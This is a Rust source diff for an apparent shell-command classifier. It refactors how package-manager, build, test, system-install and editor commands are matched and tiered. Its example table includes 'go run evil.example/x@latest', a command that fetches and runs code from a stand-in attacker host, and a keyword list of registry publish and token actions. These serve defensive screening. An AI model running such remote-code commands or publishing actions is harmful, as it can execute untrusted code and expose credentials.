@@ -1,49 +1,60 @@
 //! Build tools and package managers: what they install and publish.
 
+use super::Walker;
+use super::entry::Command;
 use super::node::execute_package;
 use super::options::{first_operand, has_word, operands, value};
-use super::{Handler, Walker};
+use super::words::words;
 use crate::path::name;
 use crate::rules::{execution, infrastructure as rules};
 use crate::shell::{Field, Flow, Io, Step};
 
-pub(super) fn handler(name: &str) -> Option<Handler> {
-    match name {
-        "pip" | "pip3" | "uv" | "easy_install" | "twine" | "flit" => Some(python),
-        "cargo" | "cross" => Some(cargo),
-        "go" => Some(go),
-        "cmake" | "ctest" | "gradle" | "gradlew" | "mvn" | "mvnw" | "ant" | "sbt" | "mix"
-        | "dotnet" | "swift" | "composer" | "gem" | "stack" | "cabal" | "dune" | "zig" | "lein" => {
-            Some(other)
-        }
-        "pytest" | "py.test" | "tox" | "nox" | "jest" | "vitest" | "mocha" | "ava"
-        | "playwright" => Some(tool),
-        "apt" | "apt-get" | "aptitude" | "dpkg" | "yum" | "dnf" | "rpm" | "pacman" | "apk"
-        | "zypper" | "snap" | "flatpak" | "port" | "emerge" | "nix-env" => Some(system),
-        "brew" => Some(brew),
-        "code" | "codium" | "cursor" | "windsurf" | "code-insiders" => Some(editor),
-        _ => None,
-    }
-}
+pub(super) const COMMANDS: &[Command] = &[
+    Command::code(
+        words!("pip pip3 uv easy_install twine flit"),
+        python,
+        [&["list"], &[], &["publish"], &[]],
+    ),
+    Command::code(words!("cargo cross"), cargo, [&["tree"], &["build"], &["publish"], &[]]),
+    Command::code(
+        words!("go"),
+        go,
+        [&[], &["version", "build ./..."], &["run evil.example/x@latest"], &[]],
+    ),
+    Command::code(
+        words!(
+            "cmake ctest gradle gradlew mvn mvnw ant sbt mix dotnet swift composer gem stack cabal \
+             dune zig lein"
+        ),
+        other,
+        [&[], &["build"], &[], &[]],
+    ),
+    Command::code(
+        words!("pytest py.test tox nox jest vitest mocha ava playwright"),
+        tool,
+        [&[], &["tests"], &[], &[]],
+    ),
+    Command::code(
+        words!(
+            "apt apt-get aptitude dpkg yum dnf rpm pacman apk zypper snap flatpak port emerge \
+             nix-env"
+        ),
+        system,
+        [&["list"], &["install jq"], &["remove jq"], &[]],
+    ),
+    Command::code(words!("brew"), brew, [&[], &["list"], &["untap a/b"], &[]]),
+    Command::code(
+        words!("code codium cursor windsurf code-insiders"),
+        editor,
+        [&[], &["."], &["--install-extension a.vsix"], &[]],
+    ),
+];
 
 /// Words with which something is published or withdrawn.
-pub(super) const PUBLISH: &[&str] = &[
-    "publish",
-    "unpublish",
-    "deprecate",
-    "yank",
-    "owner",
-    "dist-tag",
-    "access",
-    "token",
-    "adduser",
-    "login",
-    "push",
-    "upload",
-    "profile",
-    "team",
-    "hook",
-];
+pub(super) const PUBLISH: &[&str] = words!(
+    "publish unpublish deprecate yank owner dist-tag access token adduser login push upload \
+     profile team hook"
+);
 
 fn python(walker: &mut Walker<'_>, words: &[Field], io: &Io<'_>) -> Step<Flow> {
     let program = name(&words[0].text).to_owned();
@@ -88,15 +99,7 @@ fn python(walker: &mut Walker<'_>, words: &[Field], io: &Io<'_>) -> Step<Flow> {
     }
     let index = value(
         words,
-        &[
-            "-i",
-            "--index-url",
-            "--extra-index-url",
-            "-f",
-            "--find-links",
-            "--index",
-            "--default-index",
-        ],
+        words!("-i --index-url --extra-index-url -f --find-links --index --default-index"),
     );
     let foreign_index = index.is_some_and(|index| {
         !index.contains("pypi.org") && !index.contains("download.pytorch.org")
@@ -198,13 +201,8 @@ fn cargo(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
 }
 
 fn go(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let rest = operands(
-        words,
-        &[
-            "-o", "-run", "-tags", "-ldflags", "-C", "-mod", "-count", "-timeout", "-bench",
-            "-gcflags",
-        ],
-    );
+    let rest =
+        operands(words, words!("-o -run -tags -ldflags -C -mod -count -timeout -bench -gcflags"));
     let verb = rest.first().map(|word| word.text.clone()).unwrap_or_default();
     if matches!(verb.as_str(), "version" | "env" | "list" | "doc" | "help" | "" | "vet")
         && !has_word(words, &["-w"])
